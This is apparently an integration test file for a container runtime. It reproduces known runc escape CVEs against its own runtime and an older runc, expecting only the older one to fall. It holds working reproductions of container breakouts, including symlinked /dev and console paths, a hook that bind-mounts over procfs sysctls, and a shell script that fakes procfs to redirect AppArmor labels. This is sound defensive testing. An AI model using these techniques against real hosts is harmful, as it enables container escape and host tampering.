//! The same attack on ours and on a runtime that is known to fall to it: Debian 12's runc 1.1.5. An attack to which the
//! peer does not fall was not made, so the test fails then too.
//!
//! Debian has mended CVE-2023-25809, -2023-27561, -2023-28642 and -2024-21626 in its runc: those have no peer here.

use std::fs;
use std::os::unix::fs::symlink;
use std::os::unix::net::UnixListener;
use std::process::{Command, Stdio};

use integration_tests::{binaries, run};
use serde_json::{Value, json};

use crate::attack::{Attack, grant, mount, without_mount};

/// Makes the attack on both. `attack` returns what it found when the runtime fell.
#[track_caller]
fn only_the_peer_falls(attack: impl Fn(&Attack) -> Option<String>) {
    let ours = Attack::new();
    let fell = attack(&ours);
    assert_eq!(fell, None, "ours falls");
    ours.lost_nothing("ours");
    let mut peer = Attack::new();
    peer.program = binaries::peer("runc");
    assert!(attack(&peer).is_some(), "the peer stands: was the attack made?");
}

/// The names in the directory that no container may reach, and what `ptmx` there is.
fn canary(attack: &Attack) -> Vec<String> {
    let entries = fs::read_dir(attack.canary()).expect("canary");
    let mut found: Vec<String> = entries
        .map(|entry| {
            let entry = entry.expect("entry");
            let kind = entry.file_type().expect("a type");
            format!("{} {kind:?}", entry.file_name().to_string_lossy())
        })
        .collect();
    found.sort();
    found
}

/// A changed directory of the host, told as what is in it now.
fn changed(before: &[String], attack: &Attack) -> Option<String> {
    let now = canary(attack);
    (now != before).then(|| now.join(", "))
}

/// The image's `/dev` is a link to a directory of the host: links are made there, and `ptmx` is removed.
#[test]
fn cve_2026_41579_a_dev_that_leads_to_the_host() {
    only_the_peer_falls(|attack| {
        fs::remove_dir(attack.rootfs("dev")).expect("rmdir");
        symlink(attack.canary(), attack.rootfs("dev")).expect("symlink");
        let before = canary(attack);
        attack.configure(&["/bin/true"], |_| {});
        attack.run();
        changed(&before, attack)
    });
}

/// The target of a cgroup mount is below a link of the image: directories are made on the host, as by CVE-2024-45310 but
/// without a race. The peer does it where there are controllers of cgroup v1.
#[test]
fn cve_2024_45310_cgroup_targets_that_lead_to_the_host() {
    let v1 = std::path::Path::new("/sys/fs/cgroup/cpu").exists();
    let attempt = |attack: &Attack| {
        symlink(attack.canary(), attack.rootfs("link")).expect("symlink");
        let before = canary(attack);
        attack.configure(&["/bin/true"], |spec| {
            let mounts = spec["mounts"].as_array_mut().expect("mounts");
            mounts.retain(|mount| mount["type"] != "cgroup");
            mount(spec, "cgroup", "cgroup", "/link/made", &["ro"]);
            let namespaces = spec["linux"]["namespaces"].as_array_mut().expect("namespaces");
            namespaces.retain(|namespace| namespace["type"] != "cgroup");
            namespaces.push(json!({"type": "cgroup"}));
        });
        attack.run();
        changed(&before, attack)
    };
    if v1 {
        only_the_peer_falls(attempt);
    } else {
        assert_eq!(attempt(&Attack::new()), None);
    }
}

/// A volume at `/dev`, and two files of the image: one to be masked, one to mask with.
fn volume_at_dev(attack: &Attack, spec: &mut Value) {
    let dev = attack.scratch.join("dev");
    spec["mounts"].as_array_mut().expect("mounts").retain(|mount| {
        !mount["destination"]
            .as_str()
            .is_some_and(|at| at.starts_with("/dev"))
    });
    mount(spec, "bind", &dev.to_string_lossy(), "/dev", &["bind", "rw"]);
    spec["linux"]["maskedPaths"] = json!(["/masked"]);
}

/// What masks is what a link at `/dev/null` leads to, a file of procfs for one, which is writable there.
#[test]
fn cve_2025_31133_a_null_device_that_is_a_link() {
    only_the_peer_falls(|attack| {
        let dev = attack.scratch.directory("dev");
        symlink("/proc/sys/kernel/hostname", dev.join("null")).expect("symlink");
        fs::write(attack.rootfs("masked"), "to be hidden").expect("write");
        let script = "stat -f -c %T /masked; cat /masked";
        attack.configure(&["/bin/sh", "-c", script], |spec| {
            volume_at_dev(attack, spec);
            spec["hostname"] = "redirected".into();
        });
        let said = attack.run().ok();
        said.contains("redirected").then_some(said)
    });
}

/// Nothing is mounted at `/dev`, and the image brings a file as its `/dev/null`: that is left there, and masks. (Without
/// any `/dev/null` this peer does not start: a look at it when it sets the user fails.)
#[test]
fn cve_2025_31133_a_null_device_of_the_image() {
    only_the_peer_falls(|attack| {
        fs::write(attack.rootfs("dev/null"), "from the image").expect("write");
        fs::write(attack.rootfs("masked"), "to be hidden").expect("write");
        // Not by what it says: the peer also takes the pipe for the null device, and puts the file in its place.
        let script = "[ -c /masked ] || exit 77";
        attack.configure(&["/bin/sh", "-c", script], |spec| {
            without_mount(spec, "/dev");
            spec["root"]["readonly"] = false.into();
            spec["linux"]["maskedPaths"] = json!(["/masked"]);
        });
        let ended = attack.run();
        (ended.code == 77).then(|| ended.to_string())
    });
}

/// The terminal's place is a link: what it leads to is emptied, and covered by the terminal.
#[test]
fn cve_2025_52565_a_console_that_leads_elsewhere() {
    only_the_peer_falls(|attack| {
        let socket = attack.scratch.join("console.sock");
        let _listener = UnixListener::bind(&socket).expect("bind");
        let victim = attack.rootfs("victim");
        fs::write(&victim, "not covered").expect("write");
        symlink("/victim", attack.rootfs("dev/console")).expect("symlink");
        attack.configure(&["/bin/sleep", "100"], |spec| {
            without_mount(spec, "/dev");
            spec["process"]["terminal"] = true.into();
            spec["root"]["readonly"] = false.into();
        });
        let mut command = attack.command(&["create", "--console-socket"]);
        command
            .arg(&socket)
            .arg("--bundle")
            .arg(attack.scratch.join("bundle"))
            .arg(attack.id());
        // The first process keeps standard error: no pipe that is read to its end.
        let status = command.stdout(Stdio::null()).stderr(Stdio::null()).status();
        let created = status.expect("the runtime starts").success();
        let text = fs::read_to_string(&victim).expect("read");
        if created {
            attack.delete();
        }
        (text != "not covered").then_some(text)
    });
}

/// A hook mounts over a file of procfs, as another container that shares a mount would in a race: the sysctl goes there.
#[test]
fn cve_2025_52881_a_sysctl_that_is_redirected() {
    only_the_peer_falls(|attack| {
        let target = attack.rootfs("proc/sys/kernel/domainname");
        let victim = attack.scratch.join("victim");
        fs::write(&victim, "of the host\n").expect("write");
        let script = format!("mount --bind {} {}", victim.display(), target.display());
        let look = "f=/proc/sys/kernel/domainname; cat $f; /bin/busybox umount $f; cat $f";
        attack.configure(&["/bin/sh", "-c", look], |spec| {
            grant(spec, "CAP_SYS_ADMIN");
            spec["linux"]["sysctl"] = json!({"kernel.domainname": "redirected"});
            spec["linux"]["readonlyPaths"] = json!([]);
            spec["hooks"] = json!({"createContainer": [{"path": "/bin/sh", "args": ["sh", "-c", script]}]});
        });
        let ended = attack.run();
        let text = fs::read_to_string(&victim).expect("read");
        let fell = text != "of the host\n";
        // Who stands has set the kernel's own, below what covers it.
        assert!(fell || ended.stdout == "of the host\nredirected\n", "{ended}");
        fell.then_some(text)
    });
}

/// A script for a container with CAP_SYS_ADMIN: its `/proc` is a file system of its own, in which the files of labels lead to
/// a sysctl on a procfs that is whole. `redirected` then says what was written there.
const FALSE_LABELS: &str = r#"
mkdir /tmp/p && mount -t proc proc /tmp/p && mount -t tmpfs none /proc || exit 1
for task in self thread-self; do
  mkdir -p /proc/$task/attr/apparmor
  for file in fd exe task status stat cgroup ns mountinfo uid_map setgroups; do
    ln -s /tmp/p/self/$file /proc/$task/$file
  done
  ln -s /tmp/p/sys/kernel/domainname /proc/$task/attr/exec
  ln -s /tmp/p/sys/kernel/domainname /proc/$task/attr/apparmor/exec
done
for file in sys filesystems mounts; do ln -s /tmp/p/$file /proc/$file; done
echo ready; sleep 100"#;

/// The label of an executed process is written where the container has mounted something else (the other half of
/// CVE-2025-52881, and CVE-2019-16884): the process then runs without it. The modules are not on every host: it is made
/// to look as if they were, and the kernel itself refuses what really comes to it.
#[test]
fn cve_2025_52881_a_label_that_is_redirected() {
    only_the_peer_falls(|attack| {
        attack.configure(&["/bin/sh", "-c", FALSE_LABELS], |spec| {
            grant(spec, "CAP_SYS_ADMIN");
            spec["root"]["readonly"] = false.into();
        });
        attack.start();
        attack.says("ready");
        let exec = attack.command(&["exec", "--apparmor", "redirected", attack.id(), "/bin/true"]);
        let mut command = Command::new("unshare");
        let with_apparmor = "mount -t tmpfs none /sys/module && mkdir -p /sys/module/apparmor/parameters &&
            echo Y >/sys/module/apparmor/parameters/enabled && exec \"$@\"";
        command.args(["--mount", "sh", "-c", with_apparmor, "sh"]);
        let ended = run(command.arg(exec.get_program()).args(exec.get_args()));
        let written = attack
            .exec(&[], &["/bin/cat", "/tmp/p/sys/kernel/domainname"])
            .ok();
        attack.delete();
        let fell = written.contains("redirected");
        // Who stands came to the kernel's own file, which belongs to no module here, or to one that knows no such profile.
        assert!(
            fell || (ended.code != 0 && ended.stderr.contains("label")),
            "{ended}"
        );
        fell.then_some(written)
    });
}

/// An `/etc/passwd` of the image that never ends to open holds the runtime up, and whoever waits for it.
#[test]
fn a_passwd_that_is_a_fifo_holds_nobody_up() {
    only_the_peer_falls(|attack| {
        let passwd = attack.rootfs("etc/passwd");
        fs::remove_file(&passwd).expect("remove");
        run(Command::new("mkfifo").arg(&passwd)).ok();
        attack.configure(&["/bin/true"], |_| {});
        let runtime = attack.command(&["run", "--bundle"]);
        let mut command = Command::new("timeout");
        command.args(["--kill-after=0.1", "3"]);
        // Past the limit that is there already: this one is shorter.
        command.args(runtime.get_args().skip(2));
        command.arg(attack.scratch.join("bundle")).arg(attack.id());
        command
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let status = command.status().expect("the runtime starts");
        let held = !matches!(status.code(), Some(0 | 1));
        held.then(|| status.to_string())
    });
}
